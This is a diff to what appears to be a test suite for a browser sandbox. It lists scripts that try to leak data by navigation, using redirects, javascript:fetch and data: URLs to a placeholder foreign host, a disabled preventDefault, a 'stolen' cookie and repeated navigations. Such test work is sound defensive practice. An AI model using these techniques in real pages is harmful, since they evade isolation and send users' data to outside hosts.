@@ -1,5 +1,7 @@
 // Attempts to send something away by going to another address, or by opening one.
-import { connects, markup, script, type Targets } from './attempt.js';
+import { connects, leaves, markup, script, type Targets } from './attempt.js';
+
+const goes = { ...connects, ...leaves };
 
 export const leaving = [
   script('form', ({ own }) => {
@@ -31,7 +33,7 @@ export const leaving = [
         a.href = to.foreign + '?link'; a.target = '${target}';
         document.body.append(a); a.click();`,
       ) as (to: Targets) => unknown,
-      connects,
+      target === '_self' ? goes : connects,
     ),
   ),
   script(
@@ -48,56 +50,68 @@ export const leaving = [
     document.body.append(link);
     link.click();
   }),
-  script('location', ({ foreign }) => location.assign(`${foreign}?leave`), connects),
-  script('location, own server', ({ own }) => location.assign(`${own}?leave`)),
+  script('location', ({ foreign }) => location.assign(`${foreign}?leave`), goes),
+  script('location, own server', ({ own }) => location.assign(`${own}?leave`), leaves),
   script(
     'location, where preventDefault does nothing',
     ({ foreign }) => {
       Event.prototype.preventDefault = () => undefined;
       location.assign(`${foreign}?leave`);
     },
-    connects,
+    goes,
   ),
   script('top.location', ({ foreign }) => (top!.location.href = `${foreign}?top`)),
   script('top.location, a script', ({ foreign }) => {
     top!.location.href = `javascript:fetch(${JSON.stringify(foreign)})`;
   }),
-  markup('meta refresh', '<meta http-equiv="refresh" content="0;url=FOREIGN?refresh">', connects),
-  script('pushState and reload', ({ own }) => {
-    try {
-      history.pushState(null, '', `${own}?pushed`);
-    } finally {
-      location.reload();
-    }
-  }),
-  script('cookie and reload', () => {
-    try {
-      document.cookie = 'stolen=1';
-    } finally {
-      location.reload();
-    }
-  }),
+  markup('meta refresh', '<meta http-equiv="refresh" content="0;url=FOREIGN?refresh">', goes),
+  script(
+    'pushState and reload',
+    ({ own }) => {
+      try {
+        history.pushState(null, '', `${own}?pushed`);
+      } finally {
+        location.reload();
+      }
+    },
+    leaves,
+  ),
+  script(
+    'cookie and reload',
+    () => {
+      try {
+        document.cookie = 'stolen=1';
+      } finally {
+        location.reload();
+      }
+    },
+    leaves,
+  ),
   script(
     'location, a page in memory with a refresh',
     ({ foreign }) => {
       const html = `<meta http-equiv="refresh" content="0;url=${foreign}?memory">`;
       location.href = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
     },
-    connects,
+    goes,
   ),
-  script('location, a data: page', ({ foreign }) => {
-    location.href = `data:text/html,<img src="${foreign}?data">`;
-  }),
+  script(
+    'location, a data: page',
+    ({ foreign }) => {
+      location.href = `data:text/html,<img src="${foreign}?data">`;
+    },
+    leaves,
+  ),
   script('location, a script', ({ foreign }) => {
     location.href = `javascript:fetch(${JSON.stringify(foreign)})`;
   }),
-  script('mailto', () => (location.href = 'mailto:x@example.org?body=x')),
-  script('a scheme of another program', () => (location.href = 'eegate-other:x')),
+  script('mailto', () => (location.href = 'mailto:x@example.org?body=x'), leaves),
+  script('a scheme of another program', () => (location.href = 'eegate-other:x'), leaves),
   script(
     'many navigations',
     ({ foreign }) => {
       for (let i = 0; i < 30; i++) location.href = `${foreign}?${i}`;
     },
-    connects,
+    goes,
   ),
 ];
